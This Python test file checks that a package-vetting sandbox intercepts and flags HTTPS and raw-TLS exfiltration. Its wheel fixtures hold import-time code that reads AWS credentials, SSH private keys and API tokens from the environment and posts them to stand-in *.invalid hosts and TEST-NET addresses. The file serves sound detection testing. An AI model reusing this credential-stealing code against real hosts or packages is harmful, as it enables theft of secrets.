"""HTTPS exfiltration in the real sandbox: the sinkhole terminates TLS with the run's
CA, which the sandbox trusts (system store, certifi bundles, SSL_CERT_FILE & co), so
bodies sent to HTTPS endpoints are decrypted and canaries proven over ``https``;
a client that trusts something else still leaves its SNI.

Fixtures are defanged replicas built here: ``*.invalid`` names and TEST-NET
addresses only, run only inside the sandbox, randomised (secret, names, paths).
A host-side counter (see test_network.py) checks that none of it left.
"""

from __future__ import annotations

import json
import re
import secrets
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sandbox.models import NetworkCapture, Phase, PhaseStatus, Report, Severity, Verdict
from tests.conftest import run_cli
from tests.fixtures.builders import Randomised, build_wheel
from tests.integration.test_network import LeakCheck, _can_check, _port

pytestmark = pytest.mark.usefixtures("sandbox_image", "no_leaks")

MARKER = f"tl{secrets.token_hex(5)}"


@pytest.fixture(scope="module")
def leak_check() -> Iterator[LeakCheck]:
    why = _can_check()
    if why:
        pytest.skip(f"host-side leak check unavailable ({why}; run as root)")
    check = LeakCheck(MARKER, _port())
    check.install()
    try:
        yield check
    finally:
        check.remove()


def _vet(tmp_path: Path, name: str, src: str, requires: tuple[str, ...] = ()) -> Report:
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src}, requires=requires)
    _code, report = run_cli(tmp_path, str(whl))
    assert report is not None
    return report


def _net(report: Report) -> NetworkCapture:
    assert report.network is not None and report.network.enabled, report.network
    return report.network


def _facts(report: Report) -> dict[str, Any]:
    imp = next((p for p in report.phases if p.phase is Phase.IMPORT), None)
    assert imp is not None, [(p.phase.value, p.status.value, p.exit_code) for p in report.phases]
    m = re.search(r"FACTS (\{.*\})", imp.output_tail)
    assert m, imp.output_tail
    facts: dict[str, Any] = json.loads(m.group(1))
    return facts


def test_https_post_with_urllib_raw_tls_to_an_address_and_a_pinned_client(
    tmp_path: Path, leak_check: LeakCheck
) -> None:
    r = Randomised()
    host = f"{MARKER}.{r.domain().replace('.example', '.invalid')}"
    path = f"/api/{r.name('hook')}/{secrets.token_hex(4)}"
    ip = r.address()
    pinned = f"pin-{MARKER}.invalid"
    var = r.rng.choice(["GITHUB_TOKEN", "OPENAI_API_KEY", "HF_TOKEN", "NPM_TOKEN"])
    src = textwrap.dedent(f"""\
        import base64, glob, json, os, socket, ssl, urllib.request
        facts = {{}}
        body = base64.b64encode(open(os.path.expanduser("~/.aws/credentials"), "rb").read())
        req = urllib.request.Request("https://{host}{path}", data=body, method="POST",
                                     headers={{"Content-Type": "text/plain"}})
        try:
            with urllib.request.urlopen(req, timeout=10) as resp:
                facts["status"] = resp.status
        except Exception as exc:
            facts["status"] = repr(exc)
        # a raw TLS client to an address (no SNI), not HTTP inside
        try:
            ctx = ssl.create_default_context()
            with ctx.wrap_socket(socket.create_connection(({ip!r}, 443), timeout=10),
                                 server_hostname={ip!r}) as s:
                s.sendall(b"{MARKER} " + os.environ[{var!r}].encode() + b"\\n")
                facts["raw"] = s.version()
        except Exception as exc:
            facts["raw"] = repr(exc)
        # a pinned client: it trusts one public root only, not the machine's store
        roots = sorted(glob.glob("/usr/share/ca-certificates/mozilla/*.crt"))
        pin = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        if roots:
            pin.load_verify_locations(cafile=roots[0])
        try:
            pin.wrap_socket(socket.create_connection(({pinned!r}, 443), timeout=10),
                            server_hostname={pinned!r})
            facts["pinned"] = "connected"
        except Exception as exc:
            facts["pinned"] = type(exc).__name__
        print("FACTS " + json.dumps(facts))
        """)
    report = _vet(tmp_path, r.name("tlsx"), src)
    facts = _facts(report)
    assert facts["status"] == 200 and facts["raw"] in ("TLSv1.2", "TLSv1.3"), facts
    assert facts["pinned"] == "SSLCertVerificationError", facts
    net = _net(report)
    # urllib over HTTPS: decrypted, parsed, canaries proven over https with the request line
    conn = next(c for c in net.connections if c.host == host)
    assert conn.protocol == "https" and conn.tls is not None and conn.tls.intercepted
    assert conn.tls.sni == host and conn.destination.endswith(":443") and conn.pid and conn.process
    assert conn.http and (conn.http[0].method, conn.http[0].target) == ("POST", path)
    assert conn.http[0].host == host and conn.decrypted > conn.http[0].body_bytes > 100
    xs = [x for x in net.exfiltration if x.location == "~/.aws/credentials"]
    assert {x.canary for x in xs} == {"aws_access_key_id", "aws_secret_access_key"}
    assert all(x.channel == "https" and x.request == f"POST {path} HTTP/1.1" for x in xs)
    assert all("base64" in x.encoding and x.host == host for x in xs)
    assert report.verdict is Verdict.MALICIOUS
    ps010 = next(f for f in report.findings if f.rule_id == "PS010")
    assert ps010.severity is Severity.CRITICAL and ps010.phase is Phase.IMPORT
    assert any(
        e.syscall == "(sinkhole https)"
        and f"POST {path} HTTP/1.1" in e.detail
        and e.path == "~/.aws/credentials"
        for e in ps010.evidence
    )
    # the raw client to a TEST-NET address: decrypted too (the leaf names the address)
    raw = next(c for c in net.connections if c.destination == f"{ip}:443")
    assert raw.tls is not None and raw.tls.intercepted and raw.tls.sni is None
    assert raw.protocol == "tls" and MARKER in raw.plain
    x = next(x for x in net.exfiltration if x.canary == var)
    assert x.channel == "tls" and x.destination == f"{ip}:443" and x.location == f"env {var}"
    # the pinned client: SNI and the reason, no bytes decrypted, nothing broken
    pin = next(c for c in net.connections if c.tls is not None and c.tls.sni == pinned)
    assert not pin.tls.intercepted and pin.tls.handshake_error and not pin.http and not pin.decrypted
    imp = next(p for p in report.phases if p.phase is Phase.IMPORT)
    assert imp.status is PhaseStatus.OK and imp.trace_complete


def test_requests_with_its_own_certifi_bundle_is_captured(tmp_path: Path, leak_check: LeakCheck) -> None:
    """requests + certifi come from the index as the fixture's dependencies, so they
    are installed during the run: the bundle patched after install is what they use
    (trust_env off: no REQUESTS_CA_BUNDLE, certifi's file only)."""
    r = Randomised()
    host = f"hooks-{MARKER}.invalid"
    path = f"/api/webhooks/{r.rng.randrange(10**17, 10**18)}/{secrets.token_hex(16)}"
    src = textwrap.dedent(f"""\
        import json, os
        import certifi, requests
        key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
        s = requests.Session()
        s.trust_env = False  # certifi's bundle only
        facts = {{"where": certifi.where()}}
        try:
            resp = s.post("https://{host}{path}", json={{"content": key, "username": "{MARKER}"}}, timeout=10)
            facts["status"] = resp.status_code
        except Exception as exc:
            facts["status"] = repr(exc)
        print("FACTS " + json.dumps(facts))
        """)
    report = _vet(tmp_path, r.name("reqx"), src, requires=("requests",))
    facts = _facts(report)
    assert facts["status"] == 200 and "site-packages/certifi/" in facts["where"], facts
    net = _net(report)
    conn = next(c for c in net.connections if c.host == host)
    assert conn.protocol == "https" and conn.tls is not None and conn.tls.intercepted
    assert conn.http[0].method == "POST" and conn.http[0].target == path
    x = next(x for x in net.exfiltration if x.location == "~/.ssh/id_rsa")
    assert x.channel == "https" and x.request == f"POST {path} HTTP/1.1" and x.host == host
    assert report.verdict is Verdict.MALICIOUS
    assert "PS010" in {f.rule_id for f in report.findings}


def test_zz_nothing_left_the_sandbox(leak_check: LeakCheck) -> None:
    assert leak_check.counts() == dict.fromkeys(LeakCheck.RULES, 0)
